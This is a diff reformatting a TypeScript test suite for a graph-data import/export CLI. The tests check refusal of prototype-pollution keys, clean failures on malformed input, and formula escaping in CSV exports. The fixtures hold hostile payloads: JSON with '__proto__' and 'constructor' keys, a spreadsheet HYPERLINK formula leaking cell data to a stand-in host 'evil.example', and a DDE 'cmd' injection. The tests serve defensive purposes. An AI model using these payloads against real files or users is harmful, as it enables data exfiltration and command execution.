@@ -26,7 +26,10 @@ const STACK = /\n\s+at .+:\d+:\d+\)?/;
 /** Runs the import CLI as a user would; fails the test if it does not end within 60 s. */
 function importCli(...args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
   return new Promise((resolve, reject) => {
-    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', 'tools/cli/import.ts', ...args], { cwd: PROJECT_ROOT, env: { ...process.env, LOG_LEVEL: 'silent' } });
+    const child = spawn(process.execPath, ['-r', 'ts-node/register/transpile-only', 'tools/cli/import.ts', ...args], {
+      cwd: PROJECT_ROOT,
+      env: { ...process.env, LOG_LEVEL: 'silent' },
+    });
     let stdout = '';
     let stderr = '';
     child.stdout.on('data', (d) => (stdout += d));
@@ -48,12 +51,36 @@ describe('import and export under attack', () => {
 
   it('refuses prototype-polluting keys (__proto__, constructor, toString) in every format, naming file and record; Object.prototype stays clean', async () => {
     const cases: Array<[string, string, string]> = [
-      ['proto.json', '{"entities": [{"kind": "Cluster", "id": "pp-json", "name": "P", "__proto__": {"polluted": true}}]}', 'proto.json entities[0] (id "pp-json"): field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field'],
-      ['ctor.json', '{"entities": [{"kind": "Cluster", "id": "pp-ctor", "name": "P", "constructor": {"prototype": {"polluted": true}}}]}', 'ctor.json entities[0] (id "pp-ctor"): field "constructor": the key "constructor" is refused (it could alter object prototypes); it is not a field'],
-      ['tostring.json', '{"entities": [{"kind": "Cluster", "id": "pp-tostring", "name": "P", "toString": "x"}]}', 'tostring.json entities[0] (id "pp-tostring"): field "toString": not a field of Cluster; expected one of kind, id, name, aliases, description, sources, labels, website, founded'],
-      ['proto.jsonl', '{"record": "entity", "kind": "Cluster", "id": "pp-jsonl", "name": "P", "__proto__": {"polluted": true}}\n', 'proto.jsonl line 1 (id "pp-jsonl"): field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field'],
-      ['proto.csv', 'kind,id,name,__proto__\nCluster,pp-csv,P,x\n', 'proto.csv line 1: field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field'],
-      ['ctor.csv', 'kind,id,name,constructor\nCluster,pp-csv2,P,x\n', 'ctor.csv line 1: field "constructor": the key "constructor" is refused (it could alter object prototypes); it is not a field'],
+      [
+        'proto.json',
+        '{"entities": [{"kind": "Cluster", "id": "pp-json", "name": "P", "__proto__": {"polluted": true}}]}',
+        'proto.json entities[0] (id "pp-json"): field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
+      ],
+      [
+        'ctor.json',
+        '{"entities": [{"kind": "Cluster", "id": "pp-ctor", "name": "P", "constructor": {"prototype": {"polluted": true}}}]}',
+        'ctor.json entities[0] (id "pp-ctor"): field "constructor": the key "constructor" is refused (it could alter object prototypes); it is not a field',
+      ],
+      [
+        'tostring.json',
+        '{"entities": [{"kind": "Cluster", "id": "pp-tostring", "name": "P", "toString": "x"}]}',
+        'tostring.json entities[0] (id "pp-tostring"): field "toString": not a field of Cluster; expected one of kind, id, name, aliases, description, sources, labels, website, founded',
+      ],
+      [
+        'proto.jsonl',
+        '{"record": "entity", "kind": "Cluster", "id": "pp-jsonl", "name": "P", "__proto__": {"polluted": true}}\n',
+        'proto.jsonl line 1 (id "pp-jsonl"): field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
+      ],
+      [
+        'proto.csv',
+        'kind,id,name,__proto__\nCluster,pp-csv,P,x\n',
+        'proto.csv line 1: field "__proto__": the key "__proto__" is refused (it could alter object prototypes); it is not a field',
+      ],
+      [
+        'ctor.csv',
+        'kind,id,name,constructor\nCluster,pp-csv2,P,x\n',
+        'ctor.csv line 1: field "constructor": the key "constructor" is refused (it could alter object prototypes); it is not a field',
+      ],
       [
         'proto.graphml',
         '<?xml version="1.0"?><graphml><key id="k" for="node" attr.name="__proto__"/><key id="n" for="node" attr.name="name"/><key id="kd" for="node" attr.name="kind"/><graph><node id="pp-graphml"><data key="kd">Cluster</data><data key="n">P</data><data key="k">x</data></node></graph></graphml>',
@@ -69,7 +96,10 @@ describe('import and export under attack', () => {
     expect(await count()).toBe(0);
     // Through the CLI: exit 1, the message and no stack trace.
     const cli = await importCli(path.join(tmp, 'proto.csv'));
-    expect({ code: cli.code, stderr: cli.stderr }).toEqual({ code: 1, stderr: `Import rejected, nothing was written: 1 problem(s)\n  ${cases[4][2]}\n` });
+    expect({ code: cli.code, stderr: cli.stderr }).toEqual({
+      code: 1,
+      stderr: `Import rejected, nothing was written: 1 problem(s)\n  ${cases[4][2]}\n`,
+    });
   });
 
   it('names a null (or other non-object) JSON Lines line by file and line, without a stack trace, exit 1, nothing written', async () => {
@@ -77,20 +107,33 @@ describe('import and export under attack', () => {
     const cli = await importCli(file);
     expect({ code: cli.code, stderr: cli.stderr }).toEqual({
       code: 1,
-      stderr: 'Import rejected, nothing was written: 1 problem(s)\n  lines.jsonl line 2: field "json": expected a JSON object (one record per line), got null\n',
+      stderr:
+        'Import rejected, nothing was written: 1 problem(s)\n  lines.jsonl line 2: field "json": expected a JSON object (one record per line), got null\n',
     });
-    for (const [line, got] of [['42', 'number'], ['"text"', 'string'], ['[1, 2]', 'an array'], ['true', 'boolean']]) {
+    for (const [line, got] of [
+      ['42', 'number'],
+      ['"text"', 'string'],
+      ['[1, 2]', 'an array'],
+      ['true', 'boolean'],
+    ]) {
       const error = await importFiles(suite.db, [write('other.jsonl', `\n${line}\n`)]).catch((e: Error) => e);
-      expect((error as Error).message).toBe(`Import rejected, nothing was written: 1 problem(s)\n  other.jsonl line 2: field "json": expected a JSON object (one record per line), got ${got}`);
+      expect((error as Error).message).toBe(
+        `Import rejected, nothing was written: 1 problem(s)\n  other.jsonl line 2: field "json": expected a JSON object (one record per line), got ${got}`,
+      );
     }
     expect(await count()).toBe(0);
   });
 
   it('names an unclosed CSV quote by file and line, exits 1 without a stack trace, writes nothing', async () => {
-    const file = write('quote.csv', 'kind,id,name\nCluster,csv-ok,Fine\nCluster,csv-bad,"unclosed\nCluster,csv-after,After\n');
+    const file = write(
+      'quote.csv',
+      'kind,id,name\nCluster,csv-ok,Fine\nCluster,csv-bad,"unclosed\nCluster,csv-after,After\n',
+    );
     const cli = await importCli(file);
     expect(cli.code).toBe(1);
-    expect(cli.stderr).toMatch(/^Import rejected, nothing was written: 1 problem\(s\)\n {2}quote\.csv line \d: field "csv": not valid CSV: Quote Not Closed/);
+    expect(cli.stderr).toMatch(
+      /^Import rejected, nothing was written: 1 problem\(s\)\n {2}quote\.csv line \d: field "csv": not valid CSV: Quote Not Closed/,
+    );
     expect(cli.stderr).not.toMatch(STACK);
     expect(await count()).toBe(0);
     // A folder where a file was expected: the same kind of message.
@@ -98,18 +141,32 @@ describe('import and export under attack', () => {
     fs.mkdirSync(folder, { recursive: true });
     const dir = await importCli(folder);
     expect(dir.code).toBe(1);
-    expect(dir.stderr).toMatch(/^Import rejected, nothing was written: 1 problem\(s\)\n {2}folder\.json file: field "path": cannot be read: EISDIR/);
+    expect(dir.stderr).toMatch(
+      /^Import rejected, nothing was written: 1 problem\(s\)\n {2}folder\.json file: field "path": cannot be read: EISDIR/,
+    );
     expect(dir.stderr).not.toMatch(STACK);
   });
 
   it('refuses --batch-size abc / 0 / -1 / 1.5 / 100001 (and a bad --concurrency) at once with exit 1, instead of hanging', async () => {
     const file = write('one.json', '{"entities": [{"kind": "Cluster", "id": "batch-one", "name": "One"}]}');
-    const bad: Array<[string, string]> = [['--batch-size', 'abc'], ['--batch-size', '0'], ['--batch-size', '-1'], ['--batch-size', '1.5'], ['--batch-size', '100001'], ['--concurrency', '0']];
+    const bad: Array<[string, string]> = [
+      ['--batch-size', 'abc'],
+      ['--batch-size', '0'],
+      ['--batch-size', '-1'],
+      ['--batch-size', '1.5'],
+      ['--batch-size', '100001'],
+      ['--concurrency', '0'],
+    ];
     const runs = await Promise.all(bad.map(([option, value]) => importCli(`${option}=${value}`, file)));
     runs.forEach((run, i) => {
       const [option, value] = bad[i];
       const max = option === '--batch-size' ? 100000 : 64;
-      expect({ option, value, code: run.code, stderr: run.stderr }).toEqual({ option, value, code: 1, stderr: `error: option '${option} <n>' argument '${value}' is invalid. expected a whole number from 1 to ${max}.\n` });
+      expect({ option, value, code: run.code, stderr: run.stderr }).toEqual({
+        option,
+        value,
+        code: 1,
+        stderr: `error: option '${option} <n>' argument '${value}' is invalid. expected a whole number from 1 to ${max}.\n`,
+      });
     });
     expect(await count()).toBe(0);
     const good = await importCli('--batch-size', '1', file);
@@ -119,16 +176,37 @@ describe('import and export under attack', () => {
   });
 
   it('escapes formula cells (= + - @ tab CR) in CSV exports with a leading quote, and the CSV imports back to the same graph', async () => {
-    const hostile = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTabbed', '\rReturned', "'=already quoted", "''double", "'t Hooft", 'Plain name'];
+    const hostile = [
+      '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      '-2+3',
+      '@SUM(1+1)',
+      '\tTabbed',
+      '\rReturned',
+      "'=already quoted",
+      "''double",
+      "'t Hooft",
+      'Plain name',
+    ];
     // (CSV joins list items with |, so list items here carry none: that limit of the format predates this.)
-    const entities = hostile.map((name, i) => ({ kind: 'Cluster', id: `formula-${i}`, name, description: name, aliases: [name.replace(/\|/g, '/'), 'safe'] }));
+    const entities = hostile.map((name, i) => ({
+      kind: 'Cluster',
+      id: `formula-${i}`,
+      name,
+      description: name,
+      aliases: [name.replace(/\|/g, '/'), 'safe'],
+    }));
     const relations = [{ type: 'PARTNER_OF', from: 'formula-0', to: 'formula-1', note: '=1+1' }];
     await importFiles(suite.db, [write('formulas.json', JSON.stringify({ entities, relations }))]);
     const before = await graphFingerprint(suite.db);
     const out = path.join(tmp, 'csv-export');
     await exportGraph(suite.db, 'csv', out);
-    const rows: Record<string, string>[] = parse(fs.readFileSync(path.join(out, 'entities.csv'), 'utf8'), { columns: true });
-    const relationRows: Record<string, string>[] = parse(fs.readFileSync(path.join(out, 'relations.csv'), 'utf8'), { columns: true });
+    const rows: Record<string, string>[] = parse(fs.readFileSync(path.join(out, 'entities.csv'), 'utf8'), {
+      columns: true,
+    });
+    const relationRows: Record<string, string>[] = parse(fs.readFileSync(path.join(out, 'relations.csv'), 'utf8'), {
+      columns: true,
+    });
     const cells = [...rows, ...relationRows].flatMap((r) => Object.values(r));
     expect(relationRows[0].note).toBe("'=1+1");
     // No cell a spreadsheet would run.
